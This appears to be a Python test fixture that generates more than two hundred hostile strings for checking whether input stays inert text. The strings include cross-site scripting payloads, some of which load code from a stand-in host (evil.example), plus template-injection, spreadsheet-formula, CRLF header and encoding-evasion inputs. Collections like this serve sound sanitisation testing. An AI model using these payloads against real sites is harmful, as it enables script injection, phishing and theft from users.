"""More than two hundred strings that would be something else than text, if anybody let them."""

from __future__ import annotations

SCRIPTS = ["alert(1)", "alert`1`", "top.x=1", "fetch('//evil.example')", "import('//evil.example/x.js')"]
SHAPES = [
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "</script><script>{}</script>", "<img src=x onerror={}>",
    "<img src=x onerror=\"{}\">", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe src=\"javascript:{}\"></iframe>", "<a href=\"javascript:{}\">x</a>",
    "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover=\"{}", "' onmouseover='{}",
    "\" autofocus onfocus=\"{}\" x=\"", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}",
    "\u0001javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "<math><mtext></mtext><script>{}</script>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<input autofocus onfocus={}>", "<style>@import '{}'</style>",
    "<link rel=stylesheet href=//evil.example onload={}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x</button></form>",
    "<base href=//evil.example/><script>{}</script>", "{{{{ {} }}}}", "${{{}}}", "{{% raw %}}{}{{% endraw %}}",
    "<!--<script>{}</script>-->", "]]><script>{}</script>", "<template><script>{}</script></template>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</select><script>{}</script>",
]  # fmt: skip
OTHERS = [
    "</td></tr></table><h1>Sign in again</h1>", "<h1>", "</p>", "<", ">", "&", "&lt;script&gt;", "&#60;script&#62;",
    "&amp;lt;", "'", "\"", "`", "\\", "\\\"", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "%3Cscript%3E",
    "+ADw-script+AD4-", "\u2028<script>", "\u202e<script>", "\u0000<script>", "\ufeff<script>", "\uff1cscript\uff1e",
    "<\u0000script>", "<scr\u0000ipt>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>", "{{ 7*7 }}",
    "{% for x in (1).__class__.__mro__ %}", "{# x #}", "=cmd|' /C calc'!A0", "<div style=\"position:fixed;inset:0\">",
    "<marquee>", "\r\nSet-Cookie: a=b", "%0d%0aX: y", "http://evil.example", "//evil.example",
    "<a href=//evil.example>View details in MailChimp</a>", "null", "None", "<" * 300,
]  # fmt: skip
HOSTILE = [shape.format(script) for shape in SHAPES for script in SCRIPTS] + OTHERS
